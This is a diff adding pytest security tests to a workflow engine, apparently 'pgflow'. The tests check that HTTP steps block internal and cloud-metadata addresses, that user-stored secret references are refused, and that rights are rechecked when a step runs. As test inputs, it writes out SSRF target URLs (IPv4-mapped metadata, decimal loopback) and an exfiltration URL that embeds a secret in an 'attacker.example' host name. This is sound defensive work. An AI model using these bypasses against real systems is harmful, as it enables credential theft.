@@ -6,9 +6,12 @@ from __future__ import annotations
 
 import os
 import subprocess
+import uuid
+from http.server import BaseHTTPRequestHandler
 
 import psycopg
-from conftest import pgflow_command, wait_until
+import pytest
+from conftest import pgflow_command, serve_http, wait_until
 from conftest import run_sql as as_role
 from test_security import roles  # noqa: F401  (the fixture: alice, bob, boss, stranger)
 
@@ -160,3 +163,90 @@ def test_a_python_node_never_imports_an_untrusted_module(dsn, roles, engine_fact
     st = pgflow.wait(pgflow.start(t.python("sample_trees:greet"), {"who": "alice"}, dsn=alice), 60, dsn=alice)
     assert st.status == "completed" and st.output.startswith("hello, alice"), st.error
     assert worker.poll() is None
+
+
+@pytest.fixture
+def web():
+    """A local web server recording what reaches it (path, Authorization header)."""
+    seen = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self):  # noqa: N802
+            seen.append((self.path, self.headers.get("Authorization"), self.headers.get("Host")))
+            self.send_response(200)
+            self.send_header("Content-Length", "2")
+            self.end_headers()
+            self.wfile.write(b"ok")
+
+    with serve_http(Handler) as url:
+        yield url, seen
+
+
+def test_http_steps_reach_no_internal_address_by_default(dsn, roles, engine_factory, web):  # noqa: F811
+    """Attack 7: with no allow-list (the default), metadata through an IPv4-mapped address, 192.0.0.192,
+    loopback (the tests' own web server) and bare IPs are refused before any connection; each attempt is in
+    the audit trail, which its owner reads and other users do not."""
+    url, seen = web
+    alice, bob, names = roles["alice"], roles["bob"], roles["names"]
+    one_worker(engine_factory)
+    port = url.rsplit(":", 1)[1]
+    for target in ("http://[::ffff:169.254.169.254]/latest/meta-data/", "http://192.0.0.192/",
+                   f"{url}/x", f"http://localhost:{port}/x", f"http://[::ffff:127.0.0.1]:{port}/x",
+                   f"http://2130706433:{port}/x"):
+        st = run(t.http(target), alice)
+        assert st.status == "failed" and "EgressDenied" in st.error, (target, st.error)
+    assert seen == []
+    audit = as_role(alice, "SELECT owner, method, host, status, error FROM pgflow.http_audit ORDER BY id")
+    assert len(audit) == 6 and {r[0] for r in audit} == {names["alice"]}
+    assert all(r[1] == "GET" and r[3] is None and "EgressDenied" in r[4] for r in audit), audit
+    assert as_role(bob, "SELECT count(*) FROM pgflow.http_audit") == [(0,)]
+
+
+def test_secrets_are_granted_by_an_administrator_and_checked_when_the_step_runs(dsn, roles, engine_factory, web):  # noqa: F811
+    """Attack 6: a user could point its own secrets at env:PGFLOW_DSN or file:/etc/passwd and send them
+    anywhere. Now only secrets an administrator granted the owner exist; a reference stored before (in
+    variables) is ignored; a secret in a host name is refused and never stored, whatever its case."""
+    url, seen = web
+    alice, bob, names = roles["alice"], roles["bob"], roles["names"]
+    token = "Tok-" + uuid.uuid4().hex
+    as_role(dsn, "SELECT pgflow.grant_secret(%s, 'token', 'env:PGFLOW_TEST_TOKEN')", (names["alice"],))
+    as_role(dsn, "SELECT pgflow.grant_usage(%s, p_include_http => true)", (names["bob"],))
+    # what set_secret used to store: bob's own reference to the worker's environment
+    as_role(dsn, "INSERT INTO pgflow.variables (owner, name, value, secret_ref) VALUES (%s, 'dsn', NULL, "
+                 "'env:PGFLOW_TEST_TOKEN')", (names["bob"],))
+    one_worker(engine_factory, PGFLOW_TEST_TOKEN=token, PGFLOW_HTTP_ALLOW="127.0.0.1")
+    st = run(t.http(f"{url}/ok", headers={"Authorization": "Bearer $secrets.token"}), alice)
+    assert st.status == "completed", st.error
+    assert seen == [("/ok", f"Bearer {token}", url.removeprefix("http://"))]
+    for role, secret in ((bob, "dsn"), (bob, "token")):
+        st = run(t.http(f"{url}/steal", headers={"Authorization": f"$secrets.{secret}"}), role)
+        assert st.status == "failed" and "no key" in st.error and secret in st.error, st.error
+    assert len(seen) == 1, seen
+    st = run(t.http("http://a-$secrets.token-b.attacker.example/x"), alice)
+    assert st.status == "failed" and "secret may not be part of a URL's host name" in st.error, st.error
+    stored = as_role(dsn, "SELECT concat((SELECT string_agg(t::text, '') FROM pgflow.steps t),"
+                          " (SELECT string_agg(t::text, '') FROM pgflow.instances t),"
+                          " (SELECT string_agg(t::text, '') FROM pgflow.http_audit t))")[0][0]
+    assert token.lower() not in stored.lower()
+
+
+def test_rights_are_checked_when_the_step_runs_not_only_at_start(dsn, roles, engine_factory, web):  # noqa: F811
+    """Attack 4: rights were checked only when an instance started. An HTTP right taken back, or the usage
+    revoked, while an instance waits: its next step is refused with one clear line."""
+    url, seen = web
+    bob, names = roles["bob"], roles["names"]
+    as_role(dsn, "SELECT pgflow.grant_usage(%s, p_include_http => true)", (names["bob"],))
+    one_worker(engine_factory, PGFLOW_HTTP_ALLOW="127.0.0.1")
+    http_iid = pgflow.start(t.wait_for_signal("go") >> t.http(f"{url}/later"), dsn=bob)
+    sql_iid = pgflow.start(t.wait_for_signal("go") >> "SELECT 1 AS one", dsn=roles["alice"])
+    as_role(dsn, "SELECT pgflow.grant_usage(%s, p_include_http => false)", (names["bob"],))
+    pgflow.signal(http_iid, "go", dsn=bob)
+    st = pgflow.wait(http_iid, 60, dsn=bob)
+    assert st.status == "failed" and "refused when the step ran" in st.error and "may not use HTTP" in st.error
+    assert "\n" not in st.error.strip() and seen == []
+    as_role(dsn, "SELECT pgflow.revoke_usage(%s)", (names["alice"],))
+    as_role(dsn, "SELECT pgflow.signal(%s, 'go')", (sql_iid,))
+    wait_until(lambda: as_role(dsn, "SELECT status FROM pgflow.instances WHERE id = %s", (sql_iid,))[0][0]
+               == "failed", 60, "the revoked owner's step to be refused")
+    error = as_role(dsn, "SELECT error FROM pgflow.instances WHERE id = %s", (sql_iid,))[0][0]
+    assert "refused when the step ran" in error and "no longer granted" in error, error
